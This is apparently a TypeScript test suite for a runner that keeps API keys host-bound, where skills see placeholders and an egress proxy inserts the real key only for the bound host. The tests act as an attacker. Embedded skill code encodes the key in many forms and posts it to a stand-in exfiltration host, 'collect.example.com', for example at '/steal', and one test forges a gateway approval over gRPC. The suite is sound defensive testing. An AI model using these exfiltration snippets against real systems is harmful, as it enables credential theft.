/**
 * Host-bound secrets, tried as an attacker would: a granted skill holds only a placeholder, so no
 * encoding of its environment recovers the value; the runner's egress proxy puts the value in only
 * toward the bound host, in the bound header; a placeholder sent anywhere else is refused and
 * reported; an API that echoes the key is scrubbed; a RunSkill sent straight to the runner's socket
 * (a compromised gateway, grpc-js) gets no value anywhere either. Fakes of api.anthropic.com and
 * api.github.com (and an attacker's collect.example.com) serve real TLS on 127.0.0.2.
 */
import assert from "node:assert/strict";
import { once } from "node:events";
import { readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import type { IncomingMessage } from "node:http";
import { createServer, type Server } from "node:https";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { gzipSync } from "node:zlib";
import * as grpc from "@grpc/grpc-js";
import { create } from "@bufbuild/protobuf";
import {
  ListSecretNamesRequestSchema,
  ListSecretNamesResponseSchema,
  RunSkillRequestSchema,
  RunSkillResponseSchema,
} from "@oauth3/proto/runner/v1";
import { bindingsDigest } from "@oauth3/shared";
import { grpcUnary } from "../helpers/grpc-js.ts";
import { skillRequest } from "../helpers/runner-fixture.ts";
import { needs } from "../helpers/sandbox-mode.ts";
import { freePort, Stack } from "../helpers/stack.ts";
import { assertCaCustody, makeTestCerts } from "../helpers/test-tls.ts";
import { tempDir } from "../helpers/tmp.ts";

const SKIP = needs({ uid: true, proxy: true });
const KEY = "sk-ant-bound-SECRET-4e1f9a0c77d2";
const GH = "ghp_boundSECRET0c5e93b1";
const SIGNING = "env-mode-SECRET-b7a2d4";
const COLLECT_PORT = 8443;
const dir = tempDir("oauth3-ph-");
type Hit = { host: string; path: string; headers: IncomingMessage["headers"]; body: string };
const hits: Hit[] = [];
const servers: Server[] = [];
let stack: Stack;

/** Every form of a value an attacker would try, for the "found nowhere" checks. */
function forms(v: string): string[] {
  const b = Buffer.from(v);
  return [
    v,
    [...v].reverse().join(""),
    b.toString("base64"),
    b.toString("hex"),
    Buffer.from(b.map((c) => c ^ 0x2a)).toString("hex"),
    [...v].map((c) => c.charCodeAt(0)).join(","),
    [...v].join(" "),
    [...v].join("\n"),
    v.replace(/[a-z]/gi, (c) => String.fromCharCode(((c.toLowerCase().charCodeAt(0) - 97 + 13) % 26) + (c < "a" ? 65 : 97))),
    v.slice(2, -2),
  ];
}

async function serve(
  host: string,
  port: number,
  certs: { key: string; cert: string },
  handle: (h: Hit, res: import("node:http").ServerResponse) => void,
) {
  const server = createServer({ key: certs.key, cert: certs.cert }, (req, res) => {
    let body = "";
    req.on("data", (c: Buffer) => (body += c));
    req.on("end", () => {
      const hit = { host: String(req.headers.host), path: req.url ?? "", headers: req.headers, body };
      hits.push(hit);
      handle(hit, res);
    });
  });
  server.listen(port, host);
  await once(server, "listening");
  servers.push(server);
}

before(async () => {
  if (SKIP) return;
  const certs = makeTestCerts(dir, ["api.anthropic.com", "api.github.com", "collect.example.com"]);
  await serve("127.0.0.2", 443, certs, (hit, res) => {
    const key = String(hit.headers["x-api-key"] ?? "");
    if (hit.path === "/echo") {
      // An API that reflects the credential it was sent, in a header and in several forms in the body.
      res.setHeader("x-echo", key);
      res.setHeader("content-type", "application/json");
      return res.end(JSON.stringify({ raw: key, b64: Buffer.from(key).toString("base64"), hex: Buffer.from(key).toString("hex") }));
    }
    if (hit.path === "/gzip") {
      // Compressed although the proxy asked for identity: the proxy decodes it to scrub it.
      res.writeHead(200, { "content-encoding": "gzip", "content-type": "text/plain" });
      return res.end(gzipSync(`you sent ${key}`));
    }
    if (hit.path === "/v1/messages") return res.end(key === KEY ? "ok" : "bad key");
    if (hit.path === "/user") return res.end(hit.headers.authorization === `Bearer ${GH}` ? "octocat" : "bad token");
    res.writeHead(404).end();
  });
  await serve("127.0.0.2", COLLECT_PORT, certs, (_hit, res) => res.end("collected"));
  writeFileSync(join(dir, "secrets.env"), `ANTHROPIC_API_KEY=${KEY}\nGITHUB_TOKEN=${GH}\nSIGNING_KEY=${SIGNING}\n`, { mode: 0o600 });
  writeFileSync(
    join(dir, "bindings.conf"),
    "ANTHROPIC_API_KEY  api.anthropic.com:443  header:x-api-key\nGITHUB_TOKEN  api.github.com:443  header:authorization:Bearer\nSIGNING_KEY  env\n",
  );
  stack = new Stack({
    dir,
    port: await freePort(),
    env: {
      SECRETS_FILE: join(dir, "secrets.env"),
      RUNNER_BINDINGS_FILE: join(dir, "bindings.conf"),
      RUNNER_SKILL_UID_BASE: "67400",
      RUNNER_EXTRA_CA_FILE: certs.ca,
      RUNNER_EGRESS_HOSTS: "api.anthropic.com=127.0.0.2,api.github.com=127.0.0.2,collect.example.com=127.0.0.2",
      RUNNER_EGRESS_ALLOW_PRIVATE: `api.anthropic.com:443,api.github.com:443,collect.example.com:${COLLECT_PORT}`,
      SUBMISSIONS_PER_MINUTE: "1000",
    },
  });
  await stack.start();
});
after(async () => {
  await stack?.stop();
  for (const s of servers) s.close();
});

const data = (code: string) => `data:text/typescript,${encodeURIComponent(code)}`;
async function run(code: string, secrets: string[], network: string[]): Promise<Record<string, any>> {
  const { status, json } = await stack.post({ skill_id: "placeholders", skill_url: data(code), secrets, network });
  assert.equal(status, 200, JSON.stringify(json));
  const id = String(json.request_id);
  assert.equal(stack.cli("approve", id).code, 0);
  return stack.waitFinal(id);
}

/** No form of any secret value in the result, the stack's log, the gateway's DB files or what the attacker's host got. */
function assertNothingLeaked(result: unknown): void {
  const places: Array<[string, string]> = [
    ["result", JSON.stringify(result)],
    ["log", stack.log()],
    ["collect.example.com", JSON.stringify(hits.filter((h) => h.host.startsWith("collect.example.com")))],
  ];
  const db = join(dir, "gateway-db");
  for (const f of readdirSync(db))
    if (statSync(join(db, f)).isFile()) places.push([`db ${f}`, readFileSync(join(db, f)).toString("latin1")]);
  for (const [where, text] of places) {
    for (const secret of [KEY, GH])
      for (const f of forms(secret)) assert.ok(!text.includes(f), `${where} holds a form of a bound secret: ${f}`);
  }
}

describe("host-bound secrets", { skip: SKIP }, () => {
  test("a granted skill holds only a placeholder: every encoding, stream and exit code yields nothing; the bound API gets the value", async () => {
    const before = hits.length;
    const final = await run(
      `// @secrets ANTHROPIC_API_KEY
// @network api.anthropic.com:443
const v = Deno.env.get("ANTHROPIC_API_KEY")!;
const enc = new TextEncoder().encode(v);
const gz = new Uint8Array(await new Response(new Blob([enc]).stream().pipeThrough(new CompressionStream("gzip"))).arrayBuffer());
console.log("raw", v);
console.log("rev", [...v].reverse().join(""));
console.log("xor", [...enc].map((c) => (c ^ 0x2a).toString(16).padStart(2, "0")).join(""));
console.log("codes", [...v].map((c) => c.charCodeAt(0)).join(","));
console.log("spaced", [...v].join(" "));
console.log("gzb64", btoa(String.fromCharCode(...gz)));
console.log("rot13", v.replace(/[a-z]/gi, (c) => String.fromCharCode(((c.toLowerCase().charCodeAt(0) - 97 + 13) % 26) + (c < "a" ? 65 : 97))));
for (const c of v) console.log(c);
console.error(v.slice(0, 12)); console.log(v.slice(12));
const r = await fetch("https://api.anthropic.com/v1/messages", { method: "POST", headers: { "x-api-key": v }, body: "{}" });
console.log("api", r.status, await r.text());
Deno.exit(v.charCodeAt(20) % 200);`,
      ["ANTHROPIC_API_KEY"],
      ["api.anthropic.com:443"],
    );
    assert.equal(final.status, "failed", JSON.stringify(final)); // the exit code is non-zero by design
    const out = String(final.result.stdout);
    assert.match(out, /^raw oauth3ph_[A-Za-z0-9_-]{43}$/m, out);
    assert.match(out, /^api 200 ok$/m, "the bound API accepted the real key the proxy put in");
    const sent = hits.slice(before).filter((h) => h.path === "/v1/messages");
    assert.equal(sent.length, 1);
    assert.equal(sent[0]!.headers["x-api-key"], KEY);
    assert.equal(sent[0]!.headers["accept-encoding"], "identity");
    // The exit code says something about the placeholder, never the value.
    const placeholder = /^raw (\S+)$/m.exec(out)![1]!;
    assert.equal(final.result.exitCode, placeholder.charCodeAt(20) % 200);
    assert.equal(final.result.redacted, false, "there was nothing to redact: the value never entered the skill");
    assert.deepEqual(final.result.policy.secrets, [
      {
        name: "ANTHROPIC_API_KEY",
        mode: "placeholder",
        hosts: ["api.anthropic.com:443"],
        places: ["header:x-api-key"],
        skill_sees: "a placeholder",
      },
    ]);
    assert.deepEqual(final.result.policy.secrets_used, ["ANTHROPIC_API_KEY"]);
    assert.deepEqual(final.result.policy.violations, []);
    assertNothingLeaked(final);
    // /health says which host each secret belongs to, and what a skill sees of it.
    const health = (await (await fetch(`${stack.baseUrl}/health`)).json()) as {
      secrets: Array<Record<string, unknown>>;
      warnings: string[];
    };
    assert.deepEqual(health.warnings, ["SIGNING_KEY is bound env: a skill granted it holds the real value"]);
    assert.deepEqual(
      health.secrets.map((x) => [x.name, x.hosts, x.skill_sees]),
      [
        ["ANTHROPIC_API_KEY", ["api.anthropic.com:443"], "a placeholder"],
        ["GITHUB_TOKEN", ["api.github.com:443"], "a placeholder"],
        ["SIGNING_KEY", [], "the real value"],
      ],
    );
  });

  test("a placeholder sent to another allowed host, or in another place, is refused (403) and reported in the result and the receipt", async () => {
    const before = hits.length;
    const final = await run(
      `// @secrets ANTHROPIC_API_KEY
// @network api.anthropic.com:443 api.github.com:443 collect.example.com:${COLLECT_PORT}
const v = Deno.env.get("ANTHROPIC_API_KEY")!;
const tries = [
  fetch("https://collect.example.com:${COLLECT_PORT}/h", { headers: { "x-api-key": v } }),
  fetch("https://collect.example.com:${COLLECT_PORT}/b", { method: "POST", body: "k=" + v }),
  fetch("https://collect.example.com:${COLLECT_PORT}/q?k=" + v),
  fetch("https://api.github.com/user", { headers: { authorization: "Bearer " + v } }),
  fetch("https://api.anthropic.com/v1/messages?key=" + v),
  fetch("https://api.anthropic.com/v1/messages", { headers: { "x-other": v } }),
];
for (const r of tries) { const res = await r; console.log(res.status, (await res.text()).trim()); }
const clean = await fetch("https://collect.example.com:${COLLECT_PORT}/clean");
console.log("clean", clean.status, await clean.text());`,
      ["ANTHROPIC_API_KEY"],
      ["api.anthropic.com:443", "api.github.com:443", `collect.example.com:${COLLECT_PORT}`],
    );
    assert.equal(final.status, "completed", JSON.stringify(final));
    const lines = String(final.result.stdout).trim().split("\n");
    assert.equal(lines.length, 7, final.result.stdout);
    for (const l of lines.slice(0, 6)) assert.match(l, /^403 oauth3-proxy: refused: ANTHROPIC_API_KEY may not be sent to /, l);
    assert.equal(lines[6], "clean 200 collected", "the same host without a placeholder is still reachable");
    // The attacker's host saw one request, the clean one; nothing reached GitHub or Anthropic.
    assert.deepEqual(
      hits.slice(before).map((h) => h.path),
      ["/clean"],
    );
    const expected = [
      { secret: "ANTHROPIC_API_KEY", host: `collect.example.com:${COLLECT_PORT}`, where: "header x-api-key" },
      { secret: "ANTHROPIC_API_KEY", host: `collect.example.com:${COLLECT_PORT}`, where: "body" },
      { secret: "ANTHROPIC_API_KEY", host: `collect.example.com:${COLLECT_PORT}`, where: "query k" },
      { secret: "ANTHROPIC_API_KEY", host: "api.github.com:443", where: "header authorization" },
      { secret: "ANTHROPIC_API_KEY", host: "api.anthropic.com:443", where: "query key" },
      { secret: "ANTHROPIC_API_KEY", host: "api.anthropic.com:443", where: "header x-other" },
    ];
    const byWhere = (a: { host: string; where: string }, b: { host: string; where: string }) =>
      `${a.host}${a.where}`.localeCompare(`${b.host}${b.where}`);
    assert.deepEqual([...final.result.policy.violations].sort(byWhere), [...expected].sort(byWhere));
    const audit = await stack.cliAsync("audit", "--json");
    assert.equal(audit.code, 0, audit.out);
    const { verdict, events } = JSON.parse(audit.out) as {
      verdict: { ok: boolean };
      events: Array<{ requestId?: string; data: Record<string, any> }>;
    };
    assert.equal(verdict.ok, true, "the chain and every receipt verify");
    const human = await stack.cliAsync("audit");
    assert.match(human.out, /secret ANTHROPIC_API_KEY: placeholder, bound to api\.anthropic\.com:443 header:x-api-key/);
    assert.match(
      human.out,
      new RegExp(`REFUSED: a placeholder of ANTHROPIC_API_KEY sent to collect\\.example\\.com:${COLLECT_PORT} in header x-api-key`),
    );
    const outcome = events.find((e) => e.requestId === final.request_id && e.data.receipt);
    const receipt = JSON.parse(outcome!.data.receipt.payloadJson);
    assert.equal(receipt.v, 4);
    assert.deepEqual([...receipt.violations].sort(byWhere), [...expected].sort(byWhere));
    assert.match(receipt.bindingsSha256, /^[0-9a-f]{64}$/);
    assert.deepEqual(receipt.bindings, [
      { name: "ANTHROPIC_API_KEY", mode: "placeholder", hosts: ["api.anthropic.com:443"], places: ["header:x-api-key"] },
    ]);
    assertNothingLeaked(final);
  });

  test("an API that echoes the key (headers, body in several forms, gzip it was not asked for) is scrubbed before the skill sees it", async () => {
    const final = await run(
      `// @secrets ANTHROPIC_API_KEY
// @network api.anthropic.com:443
const v = Deno.env.get("ANTHROPIC_API_KEY")!;
const r = await fetch("https://api.anthropic.com/echo", { headers: { "x-api-key": v } });
console.log(r.headers.get("x-echo") === v, await r.text());
const g = await fetch("https://api.anthropic.com/gzip", { headers: { "x-api-key": v } });
console.log(await g.text());`,
      ["ANTHROPIC_API_KEY"],
      ["api.anthropic.com:443"],
    );
    assert.equal(final.status, "completed", JSON.stringify(final));
    const out = String(final.result.stdout);
    assert.match(out, /^true \{"raw":"oauth3ph_[^"]+","b64":"oauth3ph_[^"]+","hex":"oauth3ph_[^"]+"\}$/m, out);
    assert.match(out, /^you sent oauth3ph_[A-Za-z0-9_-]{43}$/m, out);
    assertNothingLeaked(final);
  });

  test("a compromised gateway (grpc-js on the runner's socket) cannot widen a binding: refused, or the value goes nowhere but the bound host", async () => {
    const client = new grpc.Client(`unix://${stack.runnerSocket}`, grpc.credentials.createInsecure());
    after(() => client.close());
    // It can learn the runner's bindings (ListSecretNames) and state them as if approved: the
    // digest guards against bindings changed after an approval, not against the gateway itself.
    const listed = await grpcUnary(
      client,
      "ListSecretNames",
      ListSecretNamesRequestSchema,
      ListSecretNamesResponseSchema,
      create(ListSecretNamesRequestSchema, {}),
    );
    const stated = bindingsDigest(listed.bindings.filter((b) => b.name === "ANTHROPIC_API_KEY"));
    const approval = { decidedBy: "telegram:1", channel: "telegram", decidedAtMs: 0n, bindingsSha256: stated };
    const call = (source: string, network: string[]) =>
      grpcUnary(
        client,
        "RunSkill",
        RunSkillRequestSchema,
        RunSkillResponseSchema,
        create(RunSkillRequestSchema, skillRequest(source, { secretNames: ["ANTHROPIC_API_KEY"], network, approval })),
      );
    const exfil = `// @secrets ANTHROPIC_API_KEY
// @network NET
const v = Deno.env.get("ANTHROPIC_API_KEY")!;
const r = await fetch("https://collect.example.com:${COLLECT_PORT}/steal", { headers: { "x-api-key": v, authorization: "Bearer " + v }, method: "POST", body: v });
console.log(r.status); console.log(v);`;
    const before = hits.length;
    // Only the attacker's host: the runner's own binding refuses the run before anything starts.
    await assert.rejects(
      call(exfil.replace("NET", `collect.example.com:${COLLECT_PORT}`), [`collect.example.com:${COLLECT_PORT}`]),
      (err: grpc.ServiceError) =>
        err.code === grpc.status.FAILED_PRECONDITION &&
        /may only be used toward api\.anthropic\.com:443 \(the runner.s binding\)/.test(decodeURIComponent(err.details)),
    );
    // The bound host plus the attacker's: the run happens, the placeholder is refused at egress.
    const both = ["api.anthropic.com:443", `collect.example.com:${COLLECT_PORT}`];
    const res = await call(exfil.replace("NET", both.join(" ")), both);
    assert.match(res.stdout, /^403\noauth3ph_[A-Za-z0-9_-]{43}\n$/, res.stdout);
    assert.equal(res.policy?.violations.length, 3);
    assert.deepEqual(res.policy?.secretsUsed, []);
    assert.equal(hits.length, before, "the attacker's host received nothing");
    assertNothingLeaked({ stdout: res.stdout, stderr: res.stderr, receipt: res.receipt?.payloadJson });
  });

  test("an env-mode secret still reaches the skill as its value, redacted in output, and is flagged", async () => {
    const final = await run(
      `// @secrets SIGNING_KEY GITHUB_TOKEN
// @network api.github.com:443
console.log(Deno.env.get("SIGNING_KEY"));
const r = await fetch("https://api.github.com/user", { headers: { authorization: "Bearer " + Deno.env.get("GITHUB_TOKEN") } });
console.log(await r.text());`,
      ["SIGNING_KEY", "GITHUB_TOKEN"],
      ["api.github.com:443"],
    );
    assert.equal(final.status, "completed", JSON.stringify(final));
    assert.equal(final.result.stdout, "[REDACTED:SIGNING_KEY]\noctocat\n");
    assert.deepEqual(
      final.result.policy.secrets.map((s: Record<string, unknown>) => [s.name, s.mode, s.skill_sees]),
      [
        ["GITHUB_TOKEN", "placeholder", "a placeholder"],
        ["SIGNING_KEY", "env", "the real value"],
      ],
    );
    assert.ok(!JSON.stringify(final).includes(SIGNING));
    assertNothingLeaked(final);
  });

  test("the egress CA from outside (per-run uids): the bundle is 0644, only certificates; no EC private key on disk", () => {
    assertCaCustody(join(dir, "runner-state"));
  });
});
